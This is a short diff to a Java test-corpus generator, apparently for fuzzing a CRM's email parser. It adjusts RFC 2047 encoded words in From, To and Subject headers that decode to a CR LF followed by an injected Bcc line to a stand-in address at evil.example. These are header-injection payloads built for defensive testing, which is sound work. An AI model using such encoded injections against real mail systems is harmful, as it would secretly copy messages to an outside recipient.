@@ -444,7 +444,7 @@ final class HostileCorpus {
   /** Encoded words that decode to a CR LF and a header after it: a header injection into the CRM's reply. */
   private static byte[] crlfWords(Random r, int i) {
     String evil = "=?UTF-8?B?" + b64("Hello\r\nBcc: x@evil.example") + "?=";
-    String evilQ = "=?UTF-8?Q?Hello=0D=0ABcc:_x@evil.example?=";
+    String evilQ = "=?UTF-8?Q?Hello=0D=0ABcc=3A_x=40evil.example?="; // ':' and '@' encoded, as RFC 2047 5(3) asks
     String word = i % 2 == 0 ? evil : evilQ;
     return latin1("Message-ID: <crlf-" + i + "@example.test>" + CRLF + "From: " + word + " <ann@example.test>" + CRLF
         + "To: " + word + " <sales@crm.example.test>" + CRLF + "Subject: " + word + " " + i + CRLF + CRLF + text(r, 5));
